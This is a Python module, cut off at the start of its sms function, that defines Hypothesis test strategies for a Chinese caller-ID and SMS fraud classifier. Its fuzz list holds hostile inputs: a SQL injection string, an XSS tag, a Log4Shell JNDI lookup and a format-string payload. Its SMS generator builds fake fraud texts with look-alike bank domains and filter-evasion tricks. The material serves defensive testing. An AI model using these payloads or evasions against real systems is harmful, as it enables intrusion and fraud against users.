"""Hypothesis strategies for Chinese caller IDs, SMS texts and fraudnum's verdicts.

For the test suites of spam filters, dialers and SMS gateways that embed fraudnum (and for
fraudnum's own). Install the optional dependency with ``pip install fraudnum[strategies]``;
``import fraudnum`` itself never imports Hypothesis.

Everything is generated from fraudnum's own data tables, so a new row of
``data/prefixes.csv`` or ``data/phrases.csv`` is covered without code:

* :func:`numbers` writes numbers of every kind of the numbering plan (and hidden or
  malformed caller IDs), canonically or in the many ways people and phones write them.
* :func:`caller_ids` is anything a caller-ID field may hold, hostile strings included.
* :func:`sms` composes messages of each category from the phrase tables and realistic
  filler, in simplified or traditional script, with spammers' evasions;
  :func:`sms_pairs` adds a sender that agrees with the category.
* :func:`verdicts`, :func:`number_infos` and :func:`sms_verdicts` are real results of
  classifying generated input, never objects built by hand. The same strategies are
  registered for :func:`hypothesis.strategies.from_type` through Hypothesis's ``hypothesis``
  entry point.

Every option is keyword-only and checked when the strategy is created: a bad value raises
:class:`hypothesis.errors.InvalidArgument` saying what is allowed. Examples shrink towards
something readable: the first row of a table with zeros after its prefix, a single phrase.

Example:
    >>> from hypothesis import given
    >>> from fraudnum import strategies as fst
    >>> @given(fst.numbers(kind="enterprise_400", formatted=True))
    ... def test_400_numbers_are_not_trusted(number):
    ...     assert fraudnum.classify(number).risk is not fraudnum.Risk.TRUSTED

"""

from __future__ import annotations

import functools
from collections.abc import Callable, Iterable, Sequence
from typing import Final

import attrs
from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument

from fraudnum.classifier import classify, classify_sms
from fraudnum.numbers.plan import (
    PrefixRule,
    builtin_dial_prefixes,
    builtin_hidden_markers,
    builtin_rules,
    builtin_table,
)
from fraudnum.types import (
    Channel,
    Direction,
    NumberInfo,
    NumberKind,
    SmsCategory,
    SmsVerdict,
    Verdict,
)

__all__ = [
    "caller_ids",
    "number_infos",
    "number_kinds",
    "numbers",
    "sms",
    "sms_pairs",
    "sms_verdicts",
    "verdicts",
]

_DIGITS: Final = "0123456789"
# Kinds that describe input rather than a row of the numbering plan.
_INPUT_KINDS: Final = (NumberKind.HIDDEN, NumberKind.MALFORMED)
# After +86 (or 0086) these are read as landlines where the digits allow it:
# "+86 9558812345" is 0955-8812345 (numbers.py); so +86 is never put before them.
_LANDLINE_FIRST: Final = frozenset(
    {NumberKind.SERVICE_95_LONG, NumberKind.SERVICE_96, NumberKind.SMS_PORT}
)
# Short numbers people write after an area code: "025-96110", "010-12308", "0755-95588".
_AREA_PREFIXED: Final = frozenset(
    {
        NumberKind.SERVICE_95,
        NumberKind.SERVICE_96,
        NumberKind.ANTI_FRAUD_CALL,
        NumberKind.ANTI_FRAUD_SMS,
        NumberKind.GOV_HOTLINE,
        NumberKind.CARRIER_SERVICE,
    }
)
_MOBILE: Final = frozenset({NumberKind.MOBILE, NumberKind.MOBILE_VIRTUAL})
# Kinds whose numbers are written with a trailing extension.
_EXTENSIBLE: Final = frozenset(
    {NumberKind.FIXED_LINE, NumberKind.ENTERPRISE_400, NumberKind.TOLL_FREE_800}
)
# Separators people put between digit groups; all keep the number's meaning.
_SEPARATORS: Final = (" ", "-", ".", " - ", "\u3000", "\u00a0", "\u2014", "\uff0d")
_EXTENSION_FORMS: Final = (
    " ext. {}",
    " ext {}",
    " x{}",
    " 转 {}",
    "转{}",
    "#{}",
    ",,{}",
    " 分机 {}",
)
_FULL_WIDTH: Final = str.maketrans(
    "0123456789+-() ",
    "\uff10\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff19\uff0b\uff0d\uff08\uff09\u3000",
)


def _invalid(message: str) -> InvalidArgument:
    return InvalidArgument(message)


# --------------------------------------------------------------------------------------
# The numbering plan, as generation needs it


@attrs.frozen
class _Shape:
    """One way to build canonical numbers: a table row and a length it admits.

    ``avoid`` are digit prefixes the number must not start with, because a longer row of
    another kind (or a dialling convention) would claim it.
    """

    rule: PrefixRule
    length: int
    avoid: tuple[str, ...]


def _lookup() -> Callable[[str], PrefixRule | None]:
    found: Callable[[str], PrefixRule | None] = builtin_table().lookup
    return found


def _admits(rule: PrefixRule, length: int) -> bool:
    return rule.min_len <= length <= rule.max_len


def _captors(rule: PrefixRule, length: int, kind: NumberKind | None) -> tuple[str, ...] | None:
    """Prefixes that take a number of ``rule``'s prefix and ``length`` away from ``kind``.

    ``kind`` None means "no kind at all" (malformed digits). Returns None when the row's own
    prefix is already taken, so the shape is unusable.
    """
    prefix = rule.prefix
    avoid: set[str] = set()
    for other in builtin_rules():
        if other is rule or not _admits(other, length):
            continue
        if other.prefix.startswith(prefix) and len(other.prefix) > len(prefix):
            if kind is None or other.kind is not kind:
                avoid.add(other.prefix)
        elif prefix.startswith(other.prefix) and kind is None:
            return None  # a shorter row admits this length: never malformed
    if not prefix.startswith("0"):
        # A national number is read after an IP-dial prefix when 10+ digits starting
        # 0 or 1 follow it, and 13 digits starting 861 are +86 without the plus.
        for dial in builtin_dial_prefixes():
            if length - len(dial) >= 10:
                avoid.update(dial + d for d in "01")
        if length == 13:
            avoid.add("861")
        avoid.add("00")
    usable = set()
    for a in avoid:
        if prefix.startswith(a):
            return None
        if a.startswith(prefix) and len(a) <= length:
            usable.add(a)
    return tuple(sorted(usable))


@functools.cache
def _shapes(kind: NumberKind) -> tuple[_Shape, ...]:
    """Every (row, length) that builds numbers of ``kind``, in table order."""
    out = []
    for rule in builtin_rules():
        if rule.kind is not kind:
            continue
        for length in range(rule.min_len, rule.max_len + 1):
            avoid = _captors(rule, length, kind)
            if avoid is not None:
                out.append(_Shape(rule, length, avoid))
    return tuple(out)


@functools.cache
def _malformed_shapes() -> tuple[_Shape, ...]:
    """Rows (not starting 0) with a length just outside every row that could claim it."""
    out = []
    for rule in builtin_rules():
        if rule.prefix.startswith("0"):
            continue
        for length in (rule.min_len - 1, rule.max_len + 1):
            if length <= len(rule.prefix) or any(
                _admits(r, length) and r.prefix == rule.prefix for r in builtin_rules()
            ):
                continue
            avoid = _captors(rule, length, None)
            if avoid is not None:
                out.append(_Shape(rule, length, avoid))
    return tuple(dict.fromkeys(out))


@functools.cache
def _plan_kinds() -> tuple[NumberKind, ...]:
    """The kinds of the numbering plan that have at least one usable row, in table order."""
    kinds = dict.fromkeys(r.kind for r in builtin_rules() if r.kind is not None)
    return tuple(k for k in kinds if _shapes(k))


def _allowed_kinds() -> list[str]:
    return [k.value for k in _plan_kinds()] + [k.value for k in _INPUT_KINDS]


def _steer(digits: str, avoid: Sequence[str]) -> str:
    """Change as few digits as needed so ``digits`` starts with none of ``avoid``.

    The digit that completes an avoided prefix is moved to the next one that does not,
    so ``12381`` (the warning SMS, not a 12xxx hotline) becomes ``12382``.
    """
    out = list(digits)
    changed = True
    for _ in range(10 * len(avoid) + 1):
        if not changed:
            break
        changed = False
        s = "".join(out)
        for a in avoid:
            if s.startswith(a):
                i = len(a) - 1
                out[i] = str((int(out[i]) + 1) % 10)
                changed = True
                break
    return "".join(out)


def _fill(n: int) -> st.SearchStrategy[str]:
    return st.text(_DIGITS, min_size=n, max_size=n)


@st.composite
def _from_shape(draw: st.DrawFn, shape: _Shape) -> str:
    prefix = shape.rule.prefix
    if shape.rule.kind is NumberKind.FIXED_LINE:
        # Area code (010, 02x, 0xxx) then a local number that starts 2-8: a local number
        # never starts 0 or 1, and 96... after an area code is a local service number.
        area_len = 3 if prefix[1] in "12" else 4
        area = prefix + draw(_fill(max(0, area_len - len(prefix))))
        rest = shape.length - len(area)
        local = draw(st.sampled_from("2345678")) + draw(_fill(rest - 1))
        return _steer(area + local, shape.avoid)
    return _steer(prefix + draw(_fill(shape.length - len(prefix))), shape.avoid)


@st.composite
def _international(draw: st.DrawFn, shape: _Shape) -> str:
    """``00`` + a real calling code (never 86) + a subscriber number."""
    import phonenumbers

    prefix = shape.rule.prefix
    if len(prefix) > 2:
        cc = prefix[2:]
    else:
        # Codes with a row of their own (00852 ...) are reached through that row.
        codes = [
            str(c)
            for c in sorted(phonenumbers.COUNTRY_CODE_TO_REGION_CODE)
            if c != 86
            and len(str(c)) < shape.length - 2
            and not any(r.prefix == f"00{c}" for r in builtin_rules())
        ]
        cc = draw(st.sampled_from(codes))
    return "00" + cc + draw(_fill(shape.length - 2 - len(cc)))


def _canonical(kind: NumberKind) -> st.SearchStrategy[str]:
    shapes = _shapes(kind)
    build = _international if kind is NumberKind.INTERNATIONAL else _from_shape
    return st.sampled_from(shapes).flatmap(build)


# --------------------------------------------------------------------------------------
# Writing a canonical number the ways people do


@st.composite
def _grouped(draw: st.DrawFn, digits: str) -> str:
    """Split a run of digits into groups with separators (none, when shrunk)."""
    if len(digits) < 2:
        return digits
    cuts = draw(st.sets(st.integers(1, len(digits) - 1), max_size=3))
    if not cuts:
        return digits
    sep = draw(st.sampled_from(_SEPARATORS))
    parts, last = [], 0
    for c in sorted(cuts):
        parts.append(digits[last:c])
        last = c
    parts.append(digits[last:])
    return sep.join(parts)


@st.composite
def _area_code(draw: st.DrawFn) -> str:
    """A plausible area code with its trunk 0: 010, 02x or 0xxx."""
    return draw(
        st.one_of(
            st.just("010"),
            _fill(1).map(lambda d: "02" + d),
            st.tuples(st.sampled_from("3456789"), _fill(2)).map(lambda t: "0" + t[0] + t[1]),
        )
    )


def _plus86_reads_landline(nsn: str) -> bool:
    """After +86, is ``nsn`` read as a landline ``0`` + nsn (no other number claims it)?"""
    rule = _lookup()(nsn)
    return rule is None or rule.kind in _LANDLINE_FIRST


def _plus86_keeps(canonical: str, kind: NumberKind) -> bool:
    """Does ``+86`` + the national significant number keep the number's meaning?"""
    if canonical.startswith("00"):
        return False
    if canonical.startswith("0"):
        return _plus86_reads_landline(canonical[1:])
    return kind not in _LANDLINE_FIRST


@st.composite
def _written(draw: st.DrawFn, canonical: str, kind: NumberKind) -> str:
    """One realistic written form of ``canonical`` (of ``kind``) that keeps its meaning."""
    styles = ["national"]
    plus = _plus86_keeps(canonical, kind)
    if plus:
        styles += ["+86", "0086", "tel"]
    else:
        styles.append("tel_national")
    if canonical.startswith("0") and not canonical.startswith("00"):
        styles.append("bracketed_area")
        if plus:
            styles.append("+86(0)")
    if kind in _MOBILE:
        styles += ["86", "trunk_zero"]
    if kind in _AREA_PREFIXED and not canonical.startswith("0"):
        styles.append("area")
    if canonical[0] in "01" and len(canonical) >= 10 and kind is not NumberKind.SMS_PORT:
        styles.append("ip_dial")
    if kind is NumberKind.INTERNATIONAL:
        styles = ["national", "+intl", "tel_intl"]
        if len(canonical) >= 10:
            styles.append("ip_dial")
    style = draw(st.sampled_from(styles))
    body = canonical
    text: str
    if style == "national":
        text = draw(_grouped(body))
    elif style == "tel_national":
        text = "tel:" + draw(_grouped(body))
    elif style in ("+86", "0086", "tel", "+86(0)"):
        nsn = body[1:] if body.startswith("0") else body
        lead = {"+86": "+86", "0086": "0086", "tel": "tel:+86", "+86(0)": "+86 (0)"}[style]
        sep = draw(st.sampled_from(["", " ", "-"]))
        text = lead + sep + draw(_grouped(nsn))
    elif style == "bracketed_area":
        area_len = 3 if body[1] in "12" else 4
        text = f"({body[:area_len]}) " + draw(_grouped(body[area_len:]))
    elif style == "86":
        text = "86 " + draw(_grouped(body))
    elif style == "trunk_zero":
        text = "0" + draw(_grouped(body))
    elif style == "area":
        area = draw(_area_code())
        if draw(st.booleans()) and _plus86_reads_landline(area[1:] + body):
            text = f"+86 {area[1:]} {body}"
        else:
            text = f"{area}-{body}"
    elif style == "ip_dial":
        text = draw(st.sampled_from(builtin_dial_prefixes())) + " " + draw(_grouped(body))
    elif style == "+intl":
        text = "+" + draw(_grouped(body[2:]))
    else:  # tel_intl
        text = "tel:+" + draw(_grouped(body[2:]))
    if kind in _EXTENSIBLE and draw(st.booleans()):
        ext = draw(st.text(_DIGITS, min_size=1, max_size=5))
        if text.startswith("tel:"):
            text += f";ext={ext}"
        else:
            text += draw(st.sampled_from(_EXTENSION_FORMS)).format(ext)
    if draw(st.booleans()):
        text = text.translate(_FULL_WIDTH)
    pad = draw(st.sampled_from(["", " ", "\t", "\u3000"]))
    return pad + text + pad


# --------------------------------------------------------------------------------------
# Hidden and malformed caller IDs


@st.composite
def _hidden(draw: st.DrawFn) -> str:
    marker = draw(st.sampled_from(["", *sorted(builtin_hidden_markers())]))
    case = draw(st.sampled_from(["as is", "upper", "title"]))
    if case == "upper":
        marker = marker.upper()
    elif case == "title":
        marker = marker.title()
    pad = draw(st.sampled_from(["", " ", "  ", "\t", "\u3000"]))
    return pad + marker + pad


# Characters that are neither digits nor fold to digits: letters of several scripts,
# punctuation, emoji. A caller ID made only of them is never a number.
_JUNK_CHARS: Final = st.one_of(
    st.characters(codec="ascii", categories=["Lu", "Ll", "Po", "Ps", "Pe", "Sm"]),
    st.sampled_from("骚扰电话未接來電客服号码吗☎📞🤖🙂💰\u200b\u202e"),
    st.characters(categories=["Lo"], max_codepoint=0x9FFF),
)


def _is_hidden(text: str) -> bool:
    import unicodedata

    markers = builtin_hidden_markers()
    folded = unicodedata.normalize("NFKC", text)
    for invisible in "\u200b\u200c\u200d\u2060\ufeff\u00ad":
        folded = folded.replace(invisible, "")
    return (
        not text.strip()
        or text.strip().casefold() in markers
        or not folded.strip()
        or (folded.strip().casefold() in markers)
    )


def _malformed() -> st.SearchStrategy[str]:
    import phonenumbers

    @st.composite
    def digits_of_no_length(draw: st.DrawFn) -> str:
        shape = draw(st.sampled_from(_malformed_shapes()))
        fill = draw(_fill(shape.length - len(shape.rule.prefix)))
        return _steer(shape.rule.prefix + fill, shape.avoid)

    landline_rules = [r for r in builtin_rules() if r.kind is NumberKind.FIXED_LINE]

    @st.composite
    def landline_local_zero(draw: st.DrawFn) -> str:
        rule = draw(st.sampled_from(landline_rules))
        area_len = 3 if rule.prefix[1] in "12" else 4
        area = rule.prefix + draw(_fill(max(0, area_len - len(rule.prefix))))
        return area + "-0" + draw(_fill(rule.min_len - len(area) - 1))

    codes = {str(c) for c in phonenumbers.COUNTRY_CODE_TO_REGION_CODE}
    unassigned = [
        f"{a}{b}{c}"
        for a in "123456789"
        for b in _DIGITS
        for c in _DIGITS
        if not ({a, a + b, a + b + c} & codes)
    ]

    @st.composite
    def unknown_country(draw: st.DrawFn) -> str:
        return "+" + draw(st.sampled_from(unassigned)) + " " + draw(_fill(draw(st.integers(3, 9))))

    @st.composite
    def letter_inside(draw: st.DrawFn) -> str:
        number = draw(_canonical(NumberKind.MOBILE))
        at = draw(st.integers(1, len(number) - 2))
        letter = draw(st.sampled_from("abcdfghijklmnoqrsuvyzABCDFGHIJKLMNOQRSUVYZ"))
        return number[:at] + letter + number[at:]

    junk = st.text(_JUNK_CHARS, min_size=1, max_size=30).filter(lambda s: not _is_hidden(s))
    huge = st.text(_DIGITS, min_size=129, max_size=300)
    return st.one_of(
        digits_of_no_length(),
        landline_local_zero(),
        letter_inside(),
        unknown_country(),
        st.sampled_from(["+", "+86", "0086", "00", "tel:", "+86-", "()"]),
        junk,
        huge,
    )


# --------------------------------------------------------------------------------------
# Public number strategies


def _check_kind(kind: object) -> NumberKind | None:
    if kind is None:
        return None
    allowed = _allowed_kinds()
    value = kind.value if isinstance(kind, NumberKind) else kind
    if not isinstance(value, str) or value not in allowed:
        raise _invalid(
            f"kind={kind!r} is not a kind the numbering plan (data/prefixes.csv) can generate;"
            f" allowed: None or one of {', '.join(allowed)}"
        )
    return NumberKind(value)


def _check_bool(name: str, value: object) -> bool:
    if not isinstance(value, bool):
        raise _invalid(f"{name}={value!r} must be True or False")
    return value


def number_kinds() -> st.SearchStrategy[NumberKind]:
    """Kinds of the numbering plan in ``data/prefixes.csv`` (hidden and malformed excluded).

    Returns:
        A strategy for :class:`~fraudnum.NumberKind` members that have a usable table row,
        shrinking towards the first kind in the table (``mobile``).

    Example:
        >>> from hypothesis import given
        >>> @given(number_kinds().flatmap(lambda k: numbers(kind=k)))
        ... def test_any_kind(number): ...

    """
    return st.sampled_from(_plan_kinds())


def numbers(
    *, kind: NumberKind | str | None = None, formatted: bool = False
) -> st.SearchStrategy[str]:
    """Caller IDs or SMS senders that fraudnum classifies as ``kind``.

    Canonical numbers are built from the rows of ``data/prefixes.csv``: every row of the
    kind is reachable, the digits after its prefix are filled to a length the row admits,
    and numbers a longer row of another kind would claim are steered away from it
    (``12381`` is the warning SMS, so the ``12`` hotline row never yields it). They shrink
    to the first row of the kind with zeros: ``13400000000``, ``4000000000``, ``95000``.

    Args:
        kind: a :class:`~fraudnum.NumberKind` or its value. None (the default) draws any
            kind of the numbering plan; ``"hidden"`` gives withheld-number markers
            (``""``, ``"Unknown"``, ``"匿名"`` ...) and ``"malformed"`` junk that is no number.
        formatted: write numbers the ways people and phones do: ``+86``, ``0086``, area
            codes before service numbers (``025-96110``), spaces, dashes, dots, brackets,
            full-width digits, ``tel:`` URIs, IP-dial prefixes (``17951``), extensions.
            Only forms that keep the meaning are used: ``+86`` never precedes a long 95,
            a 96 or a 106 number, which fraudnum then reads as a landline.

    Returns:
        A strategy for strings.

    Raises:
        hypothesis.errors.InvalidArgument: ``kind`` is not one of the allowed kinds (the
            message lists them), or ``formatted`` is not a bool.

    Example:
        >>> from hypothesis import given
        >>> import fraudnum
        >>> @given(numbers(kind="enterprise_400", formatted=True))
        ... def test_400_calls_are_high_risk(number):
        ...     assert fraudnum.classify(number).risk is fraudnum.Risk.HIGH

    """
    k = _check_kind(kind)
    fmt = _check_bool("formatted", formatted)
    if k is NumberKind.HIDDEN:
        return _hidden()
    if k is NumberKind.MALFORMED:
        return _malformed()
    kinds = [k] if k is not None else list(_plan_kinds())
    if not fmt:
        return st.sampled_from(kinds).flatmap(_canonical)
    return st.sampled_from(kinds).flatmap(
        lambda kk: _canonical(kk).flatmap(lambda c: _written(c, kk))
    )


# Strings no caller ID should hold but some will: huge, control characters, lone
# surrogates, bidi overrides, SQL and markup, numbers drowned in noise.
_HOSTILE: Final = (
    "'; DROP TABLE calls; --",
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "${jndi:ldap://x/a}",
    "\x00",
    "138\x001234\x005678",
    "\ud800",
    "139\udfff12345678",
    "\u202e87654321931",
    "📞13912345678📞",
    "NaN",
    "None",
    "null",
    "%s%s%n",
    "+86 +86 +86",
    "1" * 129,
    "0" * 10_000,
    " " * 200,
)


def caller_ids() -> st.SearchStrategy[str]:
    """Anything a caller-ID field may hold.

    Formatted numbers of every kind, withheld-number markers, malformed input, and hostile
    strings: huge, control characters, lone surrogates, bidi overrides, emoji, SQL-ish
    junk, and arbitrary text. fraudnum gives every one of them a verdict; your code should
    survive them too.

    Returns:
        A strategy for strings, shrinking towards a plain canonical mobile number.

    Example:
        >>> from hypothesis import given
        >>> import fraudnum
        >>> @given(caller_ids())
        ... def test_every_caller_id_gets_a_reason(raw):
        ...     assert fraudnum.classify(raw).reasons

    """
    return st.one_of(
        numbers(formatted=False),
        numbers(formatted=True),
        numbers(kind=NumberKind.HIDDEN),
        numbers(kind=NumberKind.MALFORMED),
        st.sampled_from(_HOSTILE),
        st.text(max_size=40),
        st.text(
            st.characters(categories=["Cc", "Cs", "Zs", "So", "Nd", "No"]), min_size=1, max_size=20
        ),
    )


@st.composite
def _verdict(draw: st.DrawFn, numbers_: st.SearchStrategy[str], contexts: bool) -> Verdict:
    number = draw(numbers_)
    if not contexts:
        return classify(number)
    return classify(
        number,
        channel=draw(st.sampled_from(list(Channel))),
        direction=draw(st.sampled_from(list(Direction))),
        expect_international=draw(st.booleans()),
    )


def verdicts(*, kind: NumberKind | str | None = None) -> st.SearchStrategy[Verdict]:
    """Real verdicts: :func:`fraudnum.classify` applied to generated caller IDs.

    The number and its context (channel, direction, whether international calls are
    expected) are drawn; the verdict is whatever fraudnum says, never built by hand.
    Also registered as ``st.from_type(fraudnum.Verdict)``.

    Args:
        kind: only numbers of this kind (as for :func:`numbers`); None draws any caller ID
            (:func:`caller_ids`), hidden and malformed ones included.

    Returns:
        A strategy for :class:`~fraudnum.Verdict`.

    Raises:
        hypothesis.errors.InvalidArgument: ``kind`` is not an allowed kind.

    Example:
        >>> from hypothesis import given
        >>> @given(verdicts())
        ... def test_verdicts_serialise(v):
        ...     assert v.to_dict()["kind"] == v.kind.value

    """
    k = _check_kind(kind)
    source = caller_ids() if k is None else numbers(kind=k, formatted=True)
    return _verdict(source, True)


def number_infos(*, kind: NumberKind | str | None = None) -> st.SearchStrategy[NumberInfo]:
    """Real parsed numbers: the :class:`~fraudnum.NumberInfo` of generated verdicts.

    Also registered as ``st.from_type(fraudnum.NumberInfo)``.

    Args:
        kind: as for :func:`verdicts`.

    Returns:
        A strategy for :class:`~fraudnum.NumberInfo`.

    Raises:
        hypothesis.errors.InvalidArgument: ``kind`` is not an allowed kind.

    Example:
        >>> from hypothesis import given
        >>> @given(number_infos(kind="mobile"))
        ... def test_mobiles_have_e164(info):
        ...     assert info.e164.startswith("+86")

    """
    return verdicts(kind=kind).map(lambda v: v.number)


# --------------------------------------------------------------------------------------
# SMS

_SCRIPTS: Final = ("simplified", "traditional")
_SPAM: Final = ("fraud", "illegal", "harassment", "marketing")

# Filler with no phrase of any table in it (tests/test_strategies.py checks each one), so
# it only makes messages look real: greetings, small talk, closing lines.
_FILLER: Final = (
    "亲爱的用户",
    "打扰一下",
    "谢谢",
    "请知悉",
    "本周末",
    "明天下午",
    "今天",
    "有空聊聊",
    "好的",
    "在吗",
    "收到请回复",
    "详情见下方",
    "天气转凉注意保暖",
    "久等了",
    "请留意",
)
# Official anti-fraud warnings (12381, 96110, police) say what to do, never give a link
# or a number to call.
_WARNING_FILLER: Final = (
    "提醒您",
    "切勿轻信",
    "请勿向陌生人透露个人信息",
    "如遇可疑情况请及时咨询",
    "请提高防范意识",
    "您可能正在遭遇诈骗",
)
# Benign messages, by the sender kinds that send them. {code}: 4-6 digits, {tail}: 4.
_NORMAL: Final = (
    (("sms_port", "service_95"), "您的验证码是{code}，5分钟内有效，请勿泄露给他人。"),
    (("sms_port",), "验证码{code}，用于登录，请勿告诉他人。"),
    (("sms_port", "service_95"), "您的快递已放门卫室，请凭取件码{code}取件。"),
    (("service_95",), "您尾号{tail}的储蓄卡于{month}月{day}日支出{amount}元，余额{balance}元。"),
    (("mobile",), "晚上一起吃饭吗？"),
    (("mobile",), "我到楼下了"),
    (("mobile",), "明天几点开会？"),
    (("mobile",), "生日快乐！"),
    (("mobile",), "路上注意安全"),
    (("mobile",), "周末回家吗"),
    (("mobile",), "记得带伞"),
)
# Who sends each kind of message in sms_pairs (official senders are left out of the
# spam categories: a bank's own 95 number is not a scammer).
_SPAM_SENDERS: Final = ("mobile", "mobile_virtual", "sms_port", "international", "fixed_line")
_WARNING_SENDERS: Final = ("anti_fraud_sms", "anti_fraud_call")
# Links in fraud texts: look-alikes of banks and agencies.
_FRAUD_HOSTS: Final = ("icbc-vip.cc", "ccb-kefu.top", "etc-gov.xyz", "95588-cn.com", "12306-tk.cc")
_HANDLES: Final = ("abc888", "kf2024", "vip666", "hao123a", "zz520")
# Characters inserted between the characters of a phrase: the fold table skips them.
# Clause punctuation (，。、；！？：) is left out: fraudnum never matches a phrase across
# it, so "刷、单" is two words, not an evasion.
_INSERTS: Final = (" ", "*", "-", ".", "/", "|", "~", "\u3000", "·", "♥", "\u200b", "_")
# What pieces of a message are joined with: clause punctuation, so no phrase runs from
# one piece into the next.
_JOINERS: Final = ("，", "。", "！", "；", "\n")


@attrs.frozen
class _SmsTables:
    """The phrase tables digested for generation."""

    strong: dict[str, tuple[str, ...]]  # phrases that alone reach their category
    extra: dict[str, tuple[str, ...]]  # more phrases that only add to their category
    evasions: tuple[str, ...]  # contact-evasion phrases (加V, 威信 ...)
    warnings: tuple[str, ...]  # phrases that claim an official warning
    variants: dict[str, tuple[str, ...]]  # char -> chars that fold like it (width, script)
    traditional: dict[str, tuple[str, ...]]  # simplified char -> traditional chars
    inserts: tuple[str, ...]  # characters matching skips


@functools.cache
def _sms_tables() -> _SmsTables:
    from fraudnum.folding import SKIP, load_fold_table
    from fraudnum.sms.tables import Phrase, builtin_combos, builtin_phrases, builtin_policy

    fold = load_fold_table()
    phrases = builtin_phrases()
    policy = {c.value: p for c, p in builtin_policy().items()}
    combos = builtin_combos()

    def contained(folded: str) -> list[Phrase]:
        return [q for q in phrases if q.folded and q.folded in folded]

    def pure(p: Phrase, category: str) -> bool:
        """Whether ``p``, with every phrase inside it, counts only towards ``category``."""
        tags: set[str] = set()
        for q in contained(p.folded):
            if q.category not in (category, "signal") or q.weight < 0:
                return False
            tags.update(q.tags)
        return all(
            not (r.require <= tags and not (r.absent & tags))
            or (r.category in (category, "none") and r.weight >= 0)
            for r in combos
        )

    strong: dict[str, list[str]] = {c: [] for c in _SPAM}
    extra: dict[str, list[str]] = {c: [] for c in _SPAM}
    for p in phrases:
        if p.category not in _SPAM or p.weight <= 0 or not pure(p, p.category):
            continue
        threshold = policy[p.category].threshold
        assert threshold is not None
        (strong if p.weight >= threshold else extra)[p.category].append(p.phrase)
    evasions = tuple(
        p.phrase for p in phrases if "contact_evasion" in p.tags and pure(p, "marketing")
    )
    warnings = tuple(
        p.phrase
        for p in phrases
        if p.category == "warning"
        and all(q.category in ("warning", "signal") for q in contained(p.folded))
    )
    variants: dict[str, list[str]] = {}
    traditional: dict[str, list[str]] = {}
    for cp, target in fold.mapping.items():
        if target == SKIP or cp > 0xFFFF:
            continue
        ch, to = chr(cp), chr(target)
        variants.setdefault(to, []).append(ch)
        if 0x4E00 <= cp <= 0x9FFF and 0x4E00 <= target <= 0x9FFF:
            traditional.setdefault(to, []).append(ch)
    inserts = tuple(c for c in _INSERTS if fold.fold_char(ord(c)) == SKIP)
    return _SmsTables(
        strong={c: tuple(v) for c, v in strong.items()},
        extra={c: tuple(v) for c, v in extra.items()},
        evasions=evasions,
        warnings=warnings,
        variants={k: tuple(sorted(v)) for k, v in variants.items()},
        traditional={k: tuple(sorted(v)) for k, v in traditional.items()},
        inserts=inserts,
    )


@st.composite
def _script(draw: st.DrawFn, text: str, traditional: bool) -> str:
    """``text`` in traditional script where a character has a traditional form."""
    if not traditional:
        return text
    table = _sms_tables().traditional
    out = []
    for ch in text:
        forms = table.get(ch)
        out.append(draw(st.sampled_from(forms)) if forms else ch)
    return "".join(out)


@st.composite
def _evaded(draw: st.DrawFn, phrase: str, traditional: bool, evasions: bool) -> str:
    """A phrase as written in a message: script, and spammers' evasions when asked."""
    text = draw(_script(phrase, traditional))
    if not evasions or not draw(st.booleans()):
        return text
    tables = _sms_tables()
    out = []
    for i, ch in enumerate(text):
        if draw(st.booleans()):
            forms = tables.variants.get(ch.casefold(), ()) + tables.variants.get(ch, ())
            if forms:
                ch = draw(st.sampled_from(forms))
        if i and draw(st.booleans()):
            out.append(draw(st.sampled_from(tables.inserts)))
        out.append(ch)
    return "".join(out)


@st.composite
def _spam(draw: st.DrawFn, category: str, traditional: bool, evasions: bool) -> str:
    tables = _sms_tables()

    def filler(n: int) -> list[str]:
        return [
            draw(_script(f, traditional))
            for f in draw(st.lists(st.sampled_from(_FILLER), max_size=n))
        ]

    pieces = filler(2)
    pieces.append(
        draw(_evaded(draw(st.sampled_from(tables.strong[category])), traditional, evasions))
    )
    if tables.extra[category]:
        for phrase in draw(st.lists(st.sampled_from(tables.extra[category]), max_size=2)):
            pieces.append(draw(_evaded(phrase, traditional, evasions)))
    pieces.extend(filler(2))
    if category == "fraud" and draw(st.booleans()):
        pieces.append("点击 http://" + draw(st.sampled_from(_FRAUD_HOSTS)) + " ")
    if evasions and tables.evasions and draw(st.booleans()):
        evasion = draw(_evaded(draw(st.sampled_from(tables.evasions)), traditional, False))
        pieces.append(evasion + "：" + draw(st.sampled_from(_HANDLES)))
    return draw(st.sampled_from(_JOINERS)).join(pieces)


@st.composite
def _warning(draw: st.DrawFn, traditional: bool) -> str:
    tables = _sms_tables()
    head = draw(st.sampled_from(tables.warnings))
    body = draw(st.lists(st.sampled_from(_WARNING_FILLER), max_size=3, unique=True))
    text = "【" + head + "】" + "，".join(body) if body else head
    return draw(_script(text, traditional))


def _normal_text(template: str) -> st.SearchStrategy[str]:
    return st.builds(
        template.format_map,
        st.fixed_dictionaries(
            {
                "code": st.text(_DIGITS, min_size=4, max_size=6),
                "tail": _fill(4),
                "month": st.integers(1, 12),
                "day": st.integers(1, 28),
                "amount": st.decimals(1, 9999, places=2).map(str),
                "balance": st.decimals(0, 99999, places=2).map(str),
            }
        ),
    )


@st.composite
def _normal(draw: st.DrawFn, traditional: bool, senders: Iterable[str] | None = None) -> str:
    allowed = [t for kinds, t in _NORMAL if senders is None or set(senders) & set(kinds)]
    text = draw(st.sampled_from(allowed).flatmap(_normal_text))
    return draw(_script(text, traditional))


def _check_category(category: object) -> SmsCategory | None:
    if category is None:
        return None
    value = category.value if isinstance(category, SmsCategory) else category
    allowed = [c.value for c in SmsCategory]
    if not isinstance(value, str) or value not in allowed:
        raise _invalid(
            f"category={category!r} is not an SMS category;"
            f" allowed: None or one of {', '.join(allowed)}"
        )
    return SmsCategory(value)


def _check_script(script: object) -> str | None:
    if script is None:
        return None
    if not isinstance(script, str) or script not in _SCRIPTS:
        raise _invalid(
            f"script={script!r} is not a script; allowed: None, {', '.join(map(repr, _SCRIPTS))}"
        )
    return script


def _message(category: SmsCategory, script: str | None, evasions: bool) -> st.SearchStrategy[str]:
    scripts = [script == "traditional"] if script is not None else [False, True]

    def build(traditional: bool) -> st.SearchStrategy[str]:
        if category is SmsCategory.NORMAL:
            return _normal(traditional)
        if category is SmsCategory.WARNING:
            return _warning(traditional)
        return _spam(category.value, traditional, evasions)

    return st.sampled_from(scripts).flatmap(build)


def sms(
    *,
    category: SmsCategory | str | None = None,
    script: str | None = None,
    evasions: bool = True,
) -> st.SearchStrategy[str]:
